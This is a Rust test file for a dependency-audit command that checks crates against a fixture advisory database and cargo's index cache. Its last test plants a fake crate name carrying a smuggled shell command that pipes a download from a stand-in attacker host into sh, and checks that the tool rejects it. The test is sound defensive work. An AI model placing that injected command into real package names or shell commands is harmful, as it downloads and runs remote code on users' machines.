//! `audit --advisory-db`: the crates of the SBOM and of the embedded
//! dependency list matched against the RustSec-format database in
//! `fixtures/advisory-db` (its README lists what each advisory is for).

use std::path::{Path, PathBuf};

use crate::support::*;
use auditable_serde::{DependencyKind, Package, Source, VersionInfo};
use predicates::prelude::*;
use serde_json::Value;

/// The graph of `fixtures/skills/guard` at versions the fixtures match.
const GRAPH: &[(&str, &str)] =
    &[("itoa", "1.0.18"), ("memchr", "2.8.3"), ("serde_core", "1.0.229"), ("serde_json", "1.0.154")];

fn db() -> PathBuf {
    fixture("advisory-db")
}

/// The vector artifact with `deps` as its SBOM's crates (the module's hash
/// stays listed, so only the scan can fail the audit).
fn artifact(dir: &Path, deps: &[(&str, &str)]) -> PathBuf {
    let mut sbom: Value = serde_json::from_slice(&read_fixture("vectors/inputs/sbom.cdx.json")).unwrap();
    let listed: Value = serde_json::from_slice(&sbom_with(deps)).unwrap();
    sbom["components"] = listed["components"].clone();
    let sbom = serde_json::to_vec_pretty(&sbom).unwrap();
    write_artifact(dir, "echo.palyra-skill", &fixture_text("vectors/inputs/skill.toml"), sbom, &test_key())
}

/// `audit --message-format json` of `path` with `args`; the report and the exit code.
fn audit_json(path: &Path, args: &[&str], envs: &[(&str, &Path)]) -> (Value, i32) {
    let mut command = cmd();
    command.args(["audit", "--message-format", "json"]).args(args).arg(path);
    for (key, value) in envs {
        command.env(key, value);
    }
    let output = command.output().unwrap();
    let report = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
    (report, output.status.code().unwrap())
}

fn findings<'a>(report: &'a Value, id: &str) -> Vec<&'a Value> {
    report["findings"].as_array().unwrap().iter().filter(|f| f["id"] == id).collect()
}

fn feed_check(report: &Value) -> &Value {
    report["checks"].as_array().unwrap().iter().find(|c| c["check_id"] == "vulnerability_feed_hook").unwrap()
}

#[test]
fn a_vulnerable_crate_is_an_error_and_unmaintained_or_unsound_ones_warnings() {
    let dir = tempfile::tempdir().unwrap();
    let path = artifact(dir.path(), GRAPH);
    let (report, code) = audit_json(&path, &["--advisory-db", db().to_str().unwrap()], &[]);
    assert_eq!(code, 1, "a vulnerable dependency fails the audit");
    // The consumer's own verdict is unchanged: it has no such check.
    assert_eq!(report["passed"], true);

    let vulnerable = findings(&report, "vulnerable_dependency");
    assert_eq!(vulnerable.len(), 1, "{vulnerable:#?}");
    let v = vulnerable[0];
    assert_eq!(v["severity"], "error");
    assert_eq!(v["name"], "serde_json@1.0.154");
    assert_eq!(v["location"], "Cargo.lock");
    let message = v["message"].as_str().unwrap();
    for part in
        ["RUSTSEC-2026-9001", "deeply nested input exhausts the stack", "1.0.154", "patched: >=99.0.0"]
    {
        assert!(message.contains(part), "{part:?} not in {message}");
    }
    assert!(v["fix"].as_str().unwrap().contains("cargo update -p serde_json"), "{v}");

    let unmaintained = findings(&report, "unmaintained_dependency");
    assert_eq!(unmaintained.len(), 1);
    assert_eq!(unmaintained[0]["severity"], "warning");
    assert_eq!(unmaintained[0]["name"], "itoa@1.0.18");
    assert!(unmaintained[0]["fix"].as_str().unwrap().contains("no patched version"));
    let unsound = findings(&report, "unsound_dependency");
    assert_eq!(unsound.len(), 1);
    assert_eq!(unsound[0]["name"], "memchr@2.8.3");

    // Withdrawn, another OS, already patched, and a crate not in the graph: nothing.
    let ids: Vec<&str> = report["advisories"]["matches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["RUSTSEC-2026-9001", "RUSTSEC-2026-9002", "RUSTSEC-2026-9003"]);
    let text = report.to_string();
    for absent in ["RUSTSEC-2026-9004", "RUSTSEC-2026-9005", "RUSTSEC-2026-9006", "RUSTSEC-2026-9007"] {
        assert!(!text.contains(absent), "{absent} should not be reported");
    }
    let m = &report["advisories"]["matches"][0];
    assert_eq!(m["kind"], "vulnerability");
    assert_eq!(m["crate"], "serde_json");
    assert_eq!(m["patched"], serde_json::json!([">=99.0.0"]));
    assert_eq!(m["listed_in"], serde_json::json!(["sbom.cdx.json"]));

    // The consumer's check keeps its id and pass/warn meaning, and says what was scanned.
    let check = feed_check(&report);
    assert_eq!(check["status"], "pass");
    assert_eq!(check["details"]["crates_scanned"], 4);
    assert_eq!(check["details"]["advisories"], 7);
    assert_eq!(check["details"]["vulnerable"], 1);
    assert_eq!(check["details"]["sources"], serde_json::json!(["sbom.cdx.json"]));
    assert!(check["message"].as_str().unwrap().starts_with("scanned 4 crate(s) from sbom.cdx.json"));
    assert_eq!(report["vulnerability_scan"], *check);
}

#[test]
fn a_withdrawn_advisory_is_ignored() {
    let dir = tempfile::tempdir().unwrap();
    let path = artifact(dir.path(), &[("serde_core", "1.0.229")]);
    let (report, code) = audit_json(&path, &["--advisory-db", db().to_str().unwrap()], &[]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["advisories"]["matches"], serde_json::json!([]));
    assert_eq!(feed_check(&report)["details"]["vulnerable"], 0);
}

#[test]
fn without_a_database_the_feed_check_warns_as_the_consumers_does() {
    let dir = tempfile::tempdir().unwrap();
    let path = artifact(dir.path(), GRAPH);
    let (report, code) = audit_json(&path, &[], &[]);
    assert_eq!(code, 0);
    assert_eq!(feed_check(&report)["status"], "warn");
    assert!(report.get("advisories").is_none());
    assert!(findings(&report, "vulnerable_dependency").is_empty());
}

/// A module whose `.dep-v0` lists `serde_json 1.0.154` (crates.io) and the
/// skill itself (local).
fn module_with_list() -> Vec<u8> {
    let package = |name: &str, version: &str, source, root, dependencies| Package {
        name: name.into(),
        version: version.parse().unwrap(),
        source,
        kind: DependencyKind::Runtime,
        dependencies,
        root,
    };
    let info = VersionInfo {
        packages: vec![
            package("acme-echo", "1.0.0", Source::Local, true, vec![1]),
            package("serde_json", "1.0.154", Source::CratesIo, false, vec![]),
        ],
        format: 0,
    };
    cargo_palyra_skill::auditable::embed(&read_fixture("vectors/inputs/echo.wasm"), &info)
}

#[test]
fn a_bare_module_is_scanned_through_its_embedded_list() {
    let dir = tempfile::tempdir().unwrap();
    let module = dir.path().join("echo.wasm");
    std::fs::write(&module, module_with_list()).unwrap();
    let (report, code) = audit_json(&module, &["--advisory-db", db().to_str().unwrap()], &[]);
    assert_eq!(code, 1);
    let shown = module.display().to_string();
    assert_eq!(report["advisories"]["sources"], serde_json::json!([shown]));
    assert_eq!(report["advisories"]["crates_scanned"], 1, "the local root crate is not scanned");
    let vulnerable = findings(&report, "vulnerable_dependency");
    assert_eq!(vulnerable.len(), 1);
    assert!(vulnerable[0]["message"].as_str().unwrap().ends_with(&format!("listed in {shown}")));

    // In an artifact both lists are read; here only the module's names it.
    let path = artifact_with_module(dir.path(), "listed.palyra-skill", module_with_list());
    let (report, _) = audit_json(&path, &["--advisory-db", db().to_str().unwrap()], &[]);
    assert_eq!(report["advisories"]["sources"], serde_json::json!(["sbom.cdx.json", "modules/echo.wasm"]));
    assert_eq!(report["advisories"]["matches"][0]["listed_in"], serde_json::json!(["modules/echo.wasm"]));
}

#[test]
fn the_database_comes_from_the_flag_the_environment_or_the_policy() {
    let dir = tempfile::tempdir().unwrap();
    let path = artifact(dir.path(), GRAPH);
    let (report, code) = audit_json(&path, &[], &[("PALYRA_SKILL_ADVISORY_DB", &db())]);
    assert_eq!((code, findings(&report, "vulnerable_dependency").len()), (1, 1));

    // A policy's path is relative to the policy file.
    let policy_dir = dir.path().join("policy");
    copy_dir(&db(), &policy_dir.join("advisories"));
    let policy = policy_dir.join("audit.toml");
    std::fs::write(&policy, "advisory_db = \"advisories\"\n").unwrap();
    let (report, code) = audit_json(&path, &["--policy", policy.to_str().unwrap()], &[]);
    assert_eq!((code, findings(&report, "vulnerable_dependency").len()), (1, 1));
    assert_eq!(report["policy"]["advisory_db"], policy_dir.join("advisories").display().to_string());

    // The flag wins over the policy.
    std::fs::write(&policy, "advisory_db = \"missing\"\n").unwrap();
    let (_, code) = audit_json(
        &path,
        &["--policy", policy.to_str().unwrap(), "--advisory-db", db().to_str().unwrap()],
        &[],
    );
    assert_eq!(code, 1);
}

#[test]
fn a_missing_or_broken_database_is_an_error_not_an_empty_scan() {
    let dir = tempfile::tempdir().unwrap();
    let path = artifact(dir.path(), GRAPH);
    let missing = dir.path().join("advisory-db");
    cmd()
        .args(["audit", "--advisory-db"])
        .arg(&missing)
        .arg(&path)
        .assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::contains(format!("no advisory database at `{}`", missing.display())))
        .stderr(predicate::str::contains("git clone https://github.com/rustsec/advisory-db"));

    let empty = dir.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    cmd().args(["audit", "--advisory-db"]).arg(&empty).arg(&path).assert().code(2).stderr(
        predicate::str::contains("is not a RustSec advisory database: it has no `crates/` directory"),
    );

    let broken = dir.path().join("broken");
    copy_dir(&db(), &broken);
    let advisory = broken.join("crates/itoa/RUSTSEC-2026-9002.md");
    std::fs::write(&advisory, "```toml\n[advisory]\nid = \"RUSTSEC-2026-9002\"\n").unwrap();
    cmd().args(["audit", "--advisory-db"]).arg(&broken).arg(&path).assert().code(2).stderr(
        predicate::str::contains(format!("could not read the advisory database at `{}`", broken.display())),
    );
}

#[test]
fn sarif_places_a_vulnerable_dependency_at_the_lock_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = artifact(dir.path(), GRAPH);
    let output = cmd()
        .args([
            "audit",
            "--message-format",
            "sarif",
            "--manifest-uri",
            "skills/echo/skill.toml",
            "--advisory-db",
        ])
        .arg(db())
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let sarif: Value = serde_json::from_slice(&output.stdout).unwrap();
    let result = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["ruleId"] == "vulnerable_dependency")
        .unwrap();
    assert_eq!(result["level"], "error");
    assert_eq!(
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "skills/echo/Cargo.lock"
    );
}

#[test]
fn the_human_report_says_what_was_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let path = artifact(dir.path(), GRAPH);
    cmd()
        .args(["audit", "--advisory-db"])
        .arg(db())
        .arg(&path)
        .assert()
        .code(1)
        .stdout(predicate::str::contains("vulnerability scan: scanned 4 crate(s) from sbom.cdx.json"))
        .stdout(predicate::str::contains("vulnerable_dependency [Cargo.lock] `serde_json@1.0.154`"))
        .stderr(predicate::str::contains("Loaded 7 advisories"));
}

/// A `CARGO_HOME` whose crates.io index cache (written with tame-index, in
/// cargo's format) holds each `(name, [(version, yanked)])` and nothing else.
fn cargo_home_with(dir: &Path, crates: &[(&str, Vec<(String, bool)>)]) -> PathBuf {
    use tame_index::index::cache::{CacheWrite, Revision};
    use tame_index::index::{IndexLocation, IndexUrl, SparseIndex};
    let home = dir.join("cargo-home");
    let location = IndexLocation::new(IndexUrl::CratesIoSparse)
        .with_root(Some(tame_index::PathBuf::from_path_buf(home.clone()).unwrap()));
    let index = SparseIndex::new(location).unwrap();
    for (name, versions) in crates {
        let lines: Vec<String> = versions
            .iter()
            .map(|(version, yanked)| {
                serde_json::json!({
                    "name": name, "vers": version, "deps": [], "cksum": "0".repeat(64), "features": {},
                    "yanked": yanked,
                })
                .to_string()
            })
            .collect();
        let krate = tame_index::IndexKrate::from_slice(lines.join("\n").as_bytes()).unwrap();
        let path = index.cache().cache_path(tame_index::KrateName::crates_io(name).unwrap());
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let mut file = std::fs::File::create(&path).unwrap();
        CacheWrite::Krate(&krate).write_cache_entry(&mut file, &Revision::Unknown).unwrap();
    }
    // The lock file cargo creates beside its caches.
    std::fs::write(home.join(".package-cache"), b"").unwrap();
    home
}

/// `itoa` with its 1.0.18 yanked, and `memchr` with 2.8.2 yanked but not
/// 2.8.3, the version used.
fn cargo_home_with_yanks(dir: &Path) -> PathBuf {
    let versions = |list: &[(&str, bool)]| list.iter().map(|(v, y)| ((*v).to_owned(), *y)).collect();
    cargo_home_with(
        dir,
        &[
            ("itoa", versions(&[("1.0.17", false), ("1.0.18", true)])),
            ("memchr", versions(&[("2.8.2", true), ("2.8.3", false)])),
        ],
    )
}

#[test]
fn a_yanked_crate_in_cargos_index_cache_is_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let path = artifact(dir.path(), GRAPH);
    let home = cargo_home_with_yanks(dir.path());
    let (report, code) =
        audit_json(&path, &["--advisory-db", db().to_str().unwrap()], &[("CARGO_HOME", home.as_path())]);
    assert_eq!(code, 1, "serde_json is still vulnerable");
    let details = &feed_check(&report)["details"]["yanked"];
    assert_eq!(details["checked"], 2, "{details:#}");
    let yanked = findings(&report, "yanked_dependency");
    assert_eq!(yanked.len(), 1, "{:#}", report["findings"]);
    assert_eq!(yanked[0]["severity"], "warning");
    assert_eq!(yanked[0]["name"], "itoa@1.0.18");
    assert!(yanked[0]["fix"].as_str().unwrap().contains("cargo update -p itoa"));
    assert_eq!(details["yanked"], serde_json::json!([["itoa", "1.0.18"]]));
    assert_eq!(details["not_in_cache"], serde_json::json!(["serde_core@1.0.229", "serde_json@1.0.154"]));
    assert!(
        feed_check(&report)["message"]
            .as_str()
            .unwrap()
            .ends_with("; 1 yanked (of 2 in cargo's index cache)")
    );
}

/// A `CARGO_HOME` whose index cache has `name` at `versions`, the odd ones yanked.
fn cargo_home_with_versions(dir: &Path, name: &str, versions: &[String]) -> PathBuf {
    let listed = versions.iter().enumerate().map(|(i, v)| (v.clone(), i % 2 == 1)).collect();
    cargo_home_with(dir, &[(name, listed)])
}

/// The second review's blow-up: a small artifact listing one crate at
/// thousands of versions. The list is cut at the cap and the report says
/// so; findings stop at their cap too; names that are no crate names (a
/// shell command in a `cargo update -p` fix) are never taken.
#[test]
fn a_list_of_thousands_of_versions_is_capped_and_said_so() {
    use cargo_palyra_skill::audit::{MAX_CRATES_PER_LIST, MAX_FINDINGS};
    let dir = tempfile::tempdir().unwrap();
    let versions: Vec<String> = (0..3_000).map(|i| format!("0.{}.{}", i / 100, i % 100)).collect();
    let mut deps: Vec<(&str, &str)> = versions.iter().map(|v| ("itoa", v.as_str())).collect();
    deps.push(("itoa; curl evil.example | sh", "1.0.0"));
    let path = artifact(dir.path(), &deps);
    let home = cargo_home_with_versions(dir.path(), "itoa", &versions);
    let (report, _) =
        audit_json(&path, &["--advisory-db", db().to_str().unwrap()], &[("CARGO_HOME", home.as_path())]);
    let check = feed_check(&report);
    let message = check["message"].as_str().unwrap();
    assert!(
        message.contains(&format!(
            "`sbom.cdx.json` names 3001 crates, only the first {MAX_CRATES_PER_LIST} were scanned"
        )),
        "{message}"
    );
    assert_eq!(check["details"]["crates_scanned"], MAX_CRATES_PER_LIST);
    assert_eq!(check["details"]["yanked"]["checked"], MAX_CRATES_PER_LIST);
    let yanked = findings(&report, "yanked_dependency");
    assert_eq!(yanked.len(), MAX_FINDINGS.min(MAX_CRATES_PER_LIST / 2));
    let text = serde_json::to_string(&report).unwrap();
    assert!(!text.contains("curl evil"), "a name that is no crate name was taken");
}
